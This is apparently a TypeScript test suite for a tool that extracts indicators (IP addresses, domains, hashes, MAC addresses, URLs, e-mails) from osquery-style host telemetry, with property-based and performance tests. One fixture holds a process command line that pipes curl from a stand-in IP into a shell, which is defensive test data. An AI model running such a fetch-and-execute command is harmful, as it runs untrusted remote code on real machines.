import fc from 'fast-check'
import ipaddr from 'ipaddr.js'
import { describe, expect, it } from 'vitest'
import { ipAddress } from './addresses.ts'
import { Findings, INDICATOR, isHostName, readValue } from './indicators.ts'
import { readWayOf } from './read-way.ts'

type Field = keyof typeof INDICATOR

/** What one column of a table yields, as `field value`. */
function read(table: string, column: string, text: string): string[] {
  const findings = new Findings()
  readValue(readWayOf(table, column), text, findings)
  const names = Object.keys(INDICATOR) as Field[] // its keys are the fields
  return Array.from({ length: findings.count }, (_, i) => {
    return `${names.find(name => INDICATOR[name] === findings.fields[i])} ${findings.values[i]}`
  })
}

const MD5 = 'd41d8cd98f00b204e9800998ecf8427e'
const SHA256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'

describe('by the kind of a column', () => {
  it('reads addresses and lists of them', () => {
    expect(read('socket_events', 'remote_address', '198.51.100.7')).toEqual(['ip 198.51.100.7'])
    expect(read('listening_ports', 'address', '2001:DB8::0001')).toEqual(['ip 2001:db8::1'])
    expect(read('dns_lookup_events', 'response', '192.0.2.1;192.0.2.2')).toEqual([
      'ip 192.0.2.1',
      'ip 192.0.2.2',
    ])
    expect(read('socket_events', 'remote_address', '300.1.1.1')).toEqual([])
  })

  it('reads a host as an address or a name', () => {
    expect(read('last', 'host', '203.0.113.9')).toEqual(['ip 203.0.113.9'])
    expect(read('last', 'host', 'bastion.example.com')).toEqual(['domain bastion.example.com'])
    for (const host of ['', ':0', 'null', '4C4C4544-0051-3610-8052-B4C04F4D3032']) {
      expect(read('last', 'host', host), host).toEqual([])
    }
  })

  it('reads hashes in lower case, and only whole ones', () => {
    expect(read('hash', 'md5', MD5.toUpperCase())).toEqual([`md5 ${MD5}`])
    expect(read('hash', 'sha256', SHA256)).toEqual([`sha256 ${SHA256}`])
    expect(read('hash', 'sha256', SHA256.slice(1))).toEqual([])
    expect(read('hash', 'md5', MD5.replace('d', 'x'))).toEqual([])
  })

  it('reads MAC addresses in one form, but not those of nobody', () => {
    expect(read('arp_cache', 'mac', '02-00-5E-10-00-FF')).toEqual(['mac 02:00:5e:10:00:ff'])
    expect(read('arp_cache', 'mac', '00:00:00:00:00:00')).toEqual([])
  })

  it('reads users, e-mail addresses and URLs with their host', () => {
    expect(read('users', 'username', 'alice')).toEqual(['username alice'])
    expect(read('users', 'username', 'a')).toEqual(['username a'])
    expect(read('deb_packages', 'maintainer', 'A <a@example.com>, B <b@example.com>')).toEqual([
      'email a@example.com',
      'email b@example.com',
    ])
    expect(read('chrome_extensions', 'update_url', 'https://example.com/u?x=1')).toEqual([
      'url https://example.com/u?x=1',
      'domain example.com',
    ])
  })

  it('finds the URLs that a command line holds', () => {
    expect(read('processes', 'cmdline', 'sh -c "curl -s http://198.51.100.7:8080/x | sh"')).toEqual([
      'url http://198.51.100.7:8080/x',
      'ip 198.51.100.7',
    ])
    expect(read('processes', 'cmdline', 'wget https://[2001:db8::1]/x, now.')).toEqual([
      'url https://[2001:db8::1]/x',
      'ip 2001:db8::1',
    ])
  })

  it('does not look into numbers', () => {
    expect(read('processes', 'pid', '1234567')).toEqual([])
    expect(read('processes', 'start_time', '1767225661')).toEqual([])
  })
})

describe('by the shape of a value', () => {
  it('tells addresses, MAC addresses and URLs', () => {
    expect(read('', 'whatever', '192.0.2.4')).toEqual(['ip 192.0.2.4'])
    expect(read('', 'whatever', 'fe80::1%eth0')).toEqual(['ip fe80::1'])
    expect(read('', 'whatever', '02:00:5e:10:00:ff')).toEqual(['mac 02:00:5e:10:00:ff'])
    expect(read('', 'whatever', 'https://example.com/')[0]).toBe('url https://example.com/')
  })

  it('takes hexadecimal text for a hash only where the name says so', () => {
    expect(read('', 'file_sha256', SHA256)).toEqual([`sha256 ${SHA256}`])
    expect(read('docker_containers', 'id', SHA256)).toEqual([])
  })

  it('does not take a version for an address', () => {
    expect(read('', 'version', '1.2.3.4')).toEqual([])
  })

  it('reads columns of unknown tables as all known tables agree', () => {
    expect(read('', 'remote_address', '192.0.2.4')).toEqual(['ip 192.0.2.4'])
    expect(read('', 'ipv4_address', '192.0.2.4')).toEqual(['ip 192.0.2.4'])
    expect(read('', 'username', 'alice')).toEqual(['username alice'])
    expect(read('', 'host', 'db.example.com')).toEqual(['domain db.example.com'])
  })
})

describe('ipAddress', () => {
  it('agrees with ipaddr.js on four decimal parts', () => {
    const part = fc.oneof(
      fc.integer({ min: 0, max: 300 }).map(String),
      fc.constantFrom('', '00', '01', 'a', '-1'),
    )
    fc.assert(
      fc.property(fc.array(part, { minLength: 3, maxLength: 5 }), parts => {
        const text = parts.join('.')
        const strict = ipaddr.IPv4.isValidFourPartDecimal(text) && !/(^|\.)0\d/.test(text)
        expect(ipAddress(text)).toBe(strict ? text : '')
      }),
    )
  })

  it('takes no short, octal or hexadecimal form', () => {
    for (const text of ['1', '127.1', '0177.0.0.1', '0x7f.0.0.1', '2130706433', '1.2.3.4.']) {
      expect(ipAddress(text), text).toBe('')
    }
  })

  it('gives IPv6 one spelling', () => {
    expect(ipAddress('::ffff:192.0.2.1')).toBe('192.0.2.1')
    expect(ipAddress('2001:0DB8:0:0:0:0:0:1')).toBe('2001:db8::1')
    expect(ipAddress('::')).toBe('::')
  })
})

describe('isHostName', () => {
  it('takes names of one or many labels, and no UUID, number or text', () => {
    for (const name of ['web-01', 'web-01.example.com', 'My_Mac.local', 'a.b.'])
      expect(isHostName(name), name).toBe(true)
    for (const name of [
      '',
      '...',
      '12345',
      'a b',
      '-a',
      '4C4C4544-0051-3610-8052-B4C04F4D3032',
      'x'.repeat(300),
    ]) {
      expect(isHostName(name), name).toBe(false)
    }
  })
})

describe('any text', () => {
  // Quadratic work over the long ones would run into the test's time limit.
  it('is read in little time and without a throw', () => {
    const hostile = [
      'http://'.repeat(9_000),
      '@'.repeat(60_000),
      `a@${'a-'.repeat(30_000)}`,
      '.'.repeat(60_000),
    ]
    const columns = [
      'cmdline',
      'email',
      'update_url',
      'host',
      'hostnames',
      'md5',
      'mac',
      'whatever',
      'username',
    ]
    for (const text of [...hostile, ...hostile.map(part => `http://x/${part}`)]) {
      for (const column of columns) read('', column, text)
    }
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.constantFrom(...columns), (text, column) => {
        expect(read('', column, text).length).toBeLessThan(100)
      }),
    )
  })
})
